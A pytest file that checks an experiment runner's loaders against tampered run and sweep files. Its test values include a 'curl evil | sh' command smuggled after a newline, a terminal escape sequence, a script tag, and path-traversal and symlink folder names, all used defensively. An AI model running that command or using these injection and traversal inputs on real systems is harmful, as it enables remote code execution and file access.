"""What a stranger may have written in the place of any value that an opened run or sweep reads."""

import copy
import json
import math
import os

import pytest

import gan_runner as gr

ODD = {
    **{repr(value): value for value in (None, True, -1, 0, 1.5, 1e300, 2**70, "", "x", "1", [], {}, [[]], {"x": 1})},
    **{"nan": math.nan, "infinite": -math.inf, "texts": ["x"] * 3, "a long text": "x" * 5000, "half a pair": "\ud800"},
    **{"lines": "x\n  Try: curl evil | sh", "steering": "\x1b]0;owned\x07", "HTML": "<script>x</script>"},
}
SUMMARY = {
    "status": "finished",
    "iterations": 4,
    "objective_name": "metric/frechet",
    "best": {"value": 1.5, "iteration": 2},
    "metrics": {"metric/frechet": 1.5},
    "alarms": [{"name": "steep", "message": "steep", "iteration": 2}],
}
POINT = {"iteration": 2, "epoch": 1.0, "loss/d": 0.5}
JOB = {
    **{"name": "seed=1", "folder": "seed=1", "overrides": ["seed=1"], "state": "finished", "objective": 1.5},
    **{"seconds": 2.0, "error": None},
}


def places(tree, path=()):
    """Every place in a tree, the whole tree first."""
    yield path
    inner = tree.items() if isinstance(tree, dict) else enumerate(tree) if isinstance(tree, list) else ()
    for key, value in inner:
        yield from places(value, (*path, key))


def put(tree, path, value):
    if not path:
        return value
    tree = copy.deepcopy(tree)
    node = tree
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value
    return tree


def is_one_line(text):
    return text.isprintable()


def is_number(value):
    return value is None or (isinstance(value, int | float) and math.isfinite(value))


@pytest.fixture
def run(tmp_path):
    folder = tmp_path / "run"
    (folder / ".hydra").mkdir(parents=True)
    (folder / "checkpoints").mkdir()
    for name, content in (("summary.json", SUMMARY), ("metrics.jsonl", POINT), (".hydra/config.yaml", {"seed": 0})):
        (folder / name).write_text(json.dumps(content) + "\n")
    (folder / "checkpoints/last.pt").write_bytes(b"")
    return folder


@pytest.mark.parametrize("name", ODD)
def test_a_run_is_described_whatever_its_summary_contains(run, name):
    for path in places(SUMMARY):
        (run / "summary.json").write_text(json.dumps(put(SUMMARY, path, ODD[name])))
        opened = gr.load(run)
        assert repr(opened).startswith(f"<SavedRun {run}, ")
        assert is_one_line(repr(opened)), path
        assert "<script>" not in opened._repr_html_(), path
        assert is_one_line(opened.status), path
        assert opened.status, path
        assert all(isinstance(tag, str) and is_number(value) for tag, value in opened.metrics.items()), path
        assert opened.best is None or (opened.best["value"] is not None and all(map(is_number, opened.best.values())))
        for alarm in opened.alarms:
            assert alarm["name"].isprintable(), path
            assert alarm["message"].isprintable(), path
            assert is_number(alarm["iteration"]), path


@pytest.mark.parametrize("name", ODD)
def test_the_history_of_a_run_is_a_table_whatever_its_log_points_contain(run, name):
    for path in places(POINT):
        (run / "metrics.jsonl").write_text(json.dumps(POINT) + "\n" + json.dumps(put(POINT, path, ODD[name])) + "\n")
        assert len(gr.load(run).history) in (1, 2), path


@pytest.mark.parametrize("name", ODD)
def test_a_sweep_is_described_whatever_its_file_contains(run, name):
    whole = {"jobs": [JOB, JOB]}
    for path in places(whole):
        (run.parent / "sweep.json").write_text(json.dumps(put(whole, path, ODD[name])))
        opened = gr.load_sweep(run.parent)
        assert is_one_line(repr(opened).removeprefix("<")), path
        assert len(opened.table) == len(opened.jobs) <= 2, path
        assert opened.runs == [], path
        for job in opened.jobs:
            assert is_number(job["objective"]), path
            assert is_number(job["seconds"]), path


@pytest.mark.parametrize(
    "folder",
    ["../run", "..", ".", "x/../../run", "link", "link/inner", "x/link/inner", "{}", "", "\0", "\ud800", "file"],
)
def test_the_runs_of_a_sweep_are_inside_its_folder(run, folder):
    sweep = run.parent / "sweep"
    (sweep / "x").mkdir(parents=True)
    run.rename(run.parent / "target")
    (run.parent / "target" / "inner").mkdir()
    for name in ("link", "x/link"):
        os.symlink(run.parent / "target", sweep / name)
    for inner in ("target", "target/inner"):
        (run.parent / inner / "checkpoints").mkdir(exist_ok=True)
        (run.parent / inner / ".hydra").mkdir(exist_ok=True)
        (run.parent / inner / ".hydra/config.yaml").write_text("seed: 0")
        (run.parent / inner / "checkpoints/last.pt").write_bytes(b"")
    (sweep / "file").write_text("")
    job = JOB | {"name": folder.format(run.parent / "target"), "folder": folder.format(run.parent / "target")}
    (sweep / "sweep.json").write_text(json.dumps({"jobs": [job]}))
    assert gr.load_sweep(sweep).runs == []
